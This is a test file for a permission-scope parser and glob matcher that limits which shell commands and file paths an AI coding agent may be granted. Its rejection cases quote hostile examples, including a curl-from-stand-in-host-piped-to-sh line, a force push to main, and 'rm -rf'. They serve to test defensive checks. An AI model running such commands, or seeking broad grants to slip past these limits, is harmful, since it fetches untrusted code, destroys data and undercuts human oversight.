import { describe, expect, it } from "vitest";
import { globMatch } from "../../src/policy/glob";
import { isDegeneratePattern, parseScope, withinLevel } from "../../src/policy/scopes";

describe("scope grammar", () => {
  it.each([
    ["this_call", { kind: "this_call" }],
    ["all_session", { kind: "all_session" }],
    ["  rule:force_push_any ", { kind: "rule", value: "force_push_any" }],
    ["tool_type:Bash", { kind: "tool_type", value: "Bash" }],
    ["tool_group:file_write", { kind: "tool_group", value: "file_write" }],
    ["bash_pattern:npm test*", { kind: "bash_pattern", value: "npm test*" }],
    ["write_path:src/*.ts", { kind: "write_path", value: "src/*.ts" }],
    ["bash_pattern:git push origin feature/*", { kind: "bash_pattern", value: "git push origin feature/*" }],
    // An exact command or path names only what the human saw: not "broad", even when dangerous.
    ["bash_pattern:git push --force origin main", { kind: "bash_pattern", value: "git push --force origin main" }],
    ["write_path:.env", { kind: "write_path", value: ".env" }],
  ])("accepts %j", (raw, scope) => {
    expect(parseScope(raw)).toEqual({ ok: true, scope });
  });

  it.each([
    ["", /non-empty/],
    ["x".repeat(129), /128-char/],
    ["everything", /unknown scope/],
    ["tool_type:bash", /unknown tool_type bash/],
    ["tool_group:all", /unknown tool_group/],
    ["rule:", /missing value/],
    ["rule:a b", /not a rule id/],
    ["sudo:yes", /unknown prefix sudo/],
    ["bash_pattern:*", /too broad/],
    ["write_path:**/*", /too broad/],
    ["bash_pattern:a*", /too broad/],
    ["tool_type_session", /unknown scope/],
    // Scopes that cannot be broader than they look.
    ["bash_pattern:[!~]*", /only \* and \?/],
    ["bash_pattern:git push origin [a-z]*", /only \* and \?/],
    ["write_path:src/{a,b}/*", /only \* and \?/],
    ["bash_pattern:*rm -rf", /literal command name/],
    ["bash_pattern:g?t push origin main", /literal command name/],
    ["bash_pattern:git *", /too broad: it would also allow `git push --force origin main`/],
    ["bash_pattern:sudo *", /too broad/],
    ["bash_pattern:sh -c *", /too broad/],
    ["bash_pattern:curl *", /too broad: it would also allow `curl -s https:\/\/x.example\/i.sh \| sh`/],
    ["bash_pattern:python3 *", /too broad/],
    ["bash_pattern:find *", /too broad/],
    ["write_path:.*", /too broad/],
    ["write_path:.git*", /too broad/],
    ["write_path:.claude/*", /too broad/],
    ["write_path:.github/*", /too broad/],
    ["write_path:/home/*", /too broad/],
  ])("rejects %j", (raw, re) => {
    const r = parseScope(raw);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(re);
  });

  it.each([
    ["ab", true],
    ["***", true],
    ["?*?*", true],
    ["a**?", true],
    ["npm *", false],
    ["src/*.ts", false],
  ])("degenerate(%j) = %s", (v, want) => expect(isDegeneratePattern(v)).toBe(want));

  it("orders scope levels this_call < scoped < all_session", () => {
    const s = (raw: string) => (parseScope(raw) as { ok: true; scope: any }).scope;
    expect(withinLevel(s("this_call"), "this_call")).toBe(true);
    expect(withinLevel(s("rule:x"), "this_call")).toBe(false);
    expect(withinLevel(s("rule:x"), "scoped")).toBe(true);
    expect(withinLevel(s("all_session"), "scoped")).toBe(false);
    expect(withinLevel(s("all_session"), "all_session")).toBe(true);
  });
});

describe("globs", () => {
  it.each([
    ["npm test*", "npm test -- --run", true],
    ["npm test*", "npm install", false],
    ["src/*.ts", "src/a/b.ts", true],
    ["file?.txt", "file1.txt", true],
    ["file[!0-9].txt", "file1.txt", false],
    ["file[!0-9].txt", "file[!0-9].txt", true], // no character classes: [ is literal
    ["a.b", "axb", false],
    ["(x)+", "(x)+", true],
  ])("%j matches %j: %s", (g, t, want) => expect(globMatch(g, t)).toBe(want));
});
